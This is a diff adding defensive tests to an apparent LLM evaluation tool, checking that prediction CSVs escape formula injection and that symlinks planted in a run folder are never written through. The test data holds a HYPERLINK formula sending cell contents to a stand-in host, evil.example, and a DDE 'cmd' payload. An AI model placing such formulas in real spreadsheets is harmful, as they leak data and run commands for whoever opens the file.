@@ -205,6 +205,21 @@ def test_predictions_csv_has_every_row_and_escapes_formulas(tmp_path):
     assert rows[0]["prediction [echo]"] == "positive" and "status [echo]" in rows[0]
 
 
+def test_predictions_csv_escapes_column_names_quotes_every_field_and_keeps_numbers(tmp_path):
+    """OWASP's CSV injection: the header is escaped like the cells, and a label -1 is still the number -1."""
+    link = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    table = Table(
+        pd.DataFrame({"text": ["x;=cmd|' /C calc'!A0 positive"], "label": ["-1"], link: ["+3.5"]}, dtype=str),
+        0,
+        "test.csv",
+    )
+    result = evaluate("sentiment", table, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
+    lines = result.predictions_path.read_text(encoding="utf-8-sig").splitlines()
+    assert lines[0].split(",")[:3] == ['"text"', '"label"', '"\'=HYPERLINK(""http://evil.example/?""&A2']
+    assert lines[1].startswith('"x;=cmd|\' /C calc\'!A0 positive","-1","+3.5","positive",')
+    assert list(read_rows(result.predictions_path)[0])[2] == "'" + link
+
+
 def reviews(count: int, seed: int = 0) -> Table:
     """Length-skewed rows whose label is right about two times in three, some labels unknown to the model."""
     rng = random.Random(seed)
@@ -306,3 +321,28 @@ def test_worst_rows_keep_a_bounded_number_worst_first_earlier_rows_winning_ties(
     again = WorstRows(size=3)
     again.restore(worst.state())
     assert again.rows() == worst.rows()
+
+
+def test_a_link_planted_in_a_run_folder_is_never_written_through(tmp_path):
+    from llm_demo.evaluation.store import RunFolder, write_file
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n", encoding="utf-8")
+    folder = RunFolder(tmp_path / "run")
+    folder.folder.mkdir()
+    for name in ("predictions.csv", "state.json.tmp", "metrics.json"):
+        (folder.folder / name).symlink_to(victim)
+    folder.start(["text", "label"])
+    folder.append([["a", "b"]])
+    folder.commit({"rows": 1})
+    write_file(folder.metrics, "{}")
+    assert victim.read_text(encoding="utf-8") == "precious\n"
+    assert not any(path.is_symlink() for path in folder.folder.iterdir())
+    assert folder.predictions.read_bytes() == '\ufeff"text","label"\r\n"a","b"\r\n'.encode()
+    folder.predictions.unlink()
+    folder.predictions.symlink_to(victim)  # swapped in after the run started: appending fails, the victim stays
+    with pytest.raises(OSError):
+        folder.append([["c", "d"]])
+    with pytest.raises(OSError):
+        folder.continue_from(folder.saved_state())
+    assert victim.read_text(encoding="utf-8") == "precious\n"
